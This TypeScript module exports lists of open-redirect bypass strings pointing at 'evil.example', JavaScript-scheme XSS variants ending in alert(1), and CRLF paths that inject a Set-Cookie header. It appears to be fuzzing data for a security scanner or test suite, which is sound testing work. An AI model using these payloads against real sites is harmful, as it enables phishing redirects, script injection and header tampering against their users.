/** Texts that lead a browser to another host where a site takes them for a path, and texts that break a header line. */

const HOSTS = ['evil.example', 'app.example.test@evil.example', 'app.example.test.evil.example'];

/** Texts that browsers read as the beginning of another host's URL (WHATWG URL section 4.4: `\` is `/`, tabs are dropped). */
const BEGINNINGS = [
  ...[
    '//',
    '///',
    '////',
    '/\\',
    '\\\\',
    '\\/',
    '/\\/',
    '\\/\\/',
    '/\t/',
    '/%09/',
    '//%09/',
    '/%5c',
    '//%5c',
    '///%5c',
  ],
  ...[
    'https://',
    '/https://',
    'https:',
    'https:/',
    'http:///////',
    'HTTPS://',
    '/.//',
    '/..//',
    '/;@',
    '/@',
    '@',
    '/?//',
    '/#//',
  ],
  ...[
    'https://%5c',
    '/%2f',
    '/%2f%2f',
    '%2f%2f',
    '\u3031',
    '/\u3035',
    '/\u30fc',
    '<>//',
    '%0d%0a//',
    '\u00a0//',
  ],
  ...[
    'https://app.example.test\\@',
    'https://app.example.test%00@',
    'https://:@',
    'https://app.example.test:80#@',
  ],
];
const ENDS = ['', '/%2f..', '/%2e%2e%2f'];

/** One IPv4 address in the spellings of the WHATWG URL Standard section 3.5, and in IPv6 (RFC 4291 section 2.2). */
const ADDRESSES = [
  ...[
    '0xc6.0x33.0x64.0x07',
    '0xc6336407',
    '3325256711',
    '0306.063.0144.07',
    '00306.00063.0000144.00000007',
    '198.3367943',
  ],
  ...[
    '0xc6.063.25607',
    '0306.3367943',
    '[::198.51.100.7]',
    '[::ffff:198.51.100.7]',
    '198.51.100.7.',
    '198\u3002 51\uff0e100\uff61 7',
  ],
];
const USERS = ['', 'app.example.test@', 'XY>.7d8T\\205pZM@'];

/** `javascript:` in the spellings that browsers or careless decoders read. */
const SCRIPTS = [
  ...[
    'javascript:',
    'JaVaScRiPt:',
    'java%0d%0ascript%0d%0a:',
    'java\tscript:',
    'javascript&colon;',
    ' javascript:',
    '\u0001javascript:',
  ],
  ...[
    '\\x6Aavascript:',
    '\\u006Aavascript:',
    '\\152avascript:',
    'data:text/html,',
    'vbscript:',
    'view-source:javascript:',
  ],
  'javascript://app.example.test/%0a',
];

export const REDIRECT_PAYLOADS: readonly string[] = [
  ...HOSTS.flatMap((host) =>
    BEGINNINGS.flatMap((start, index) => {
      const end = ENDS[index % ENDS.length] ?? '';
      return [`${start}${host}${end}`, `${start}${host}/`];
    }),
  ),
  ...ADDRESSES.flatMap((address) =>
    USERS.flatMap((user) => [`http://${user}${address}`, `http:${user}${address}`]),
  ),
  ...SCRIPTS.flatMap((scheme) =>
    ['', '/', '//', '/%5c', '/%09/'].map((start) => `${start}${scheme}alert(1)`),
  ),
  ...[
    '//evil%E3%80%82example',
    '//evil%00.example',
    '";alert(0);//',
    '%68%74%74%70%3a%2f%2fevil.example',
    '//evil.example:443',
  ],
];

const LINE_BREAKS = [
  ...[
    '%0a',
    '%0d',
    '%0d%0a',
    '%250a',
    '%25250a',
    '%%0a0a',
    '%25%30%61',
    '%u000a',
    '%c0%8a',
    '%00%0a',
    '\\r\\n',
  ],
  '%E5%98%8A%E5%98%8D', // U+560A U+560D, whose low bytes are LF and CR
  '%e2%80%a8', // U+2028
];

/** Paths that end a header line early, if a server decodes them into a header: RFC 9110 section 5.5. */
export const LINE_BREAK_PAYLOADS: readonly string[] = LINE_BREAKS.flatMap((lineBreak) =>
  ['/', '/%23', '/%3f', '/%2e%2e%2f'].map((start) => `${start}${lineBreak}Set-Cookie:broken=line`),
);
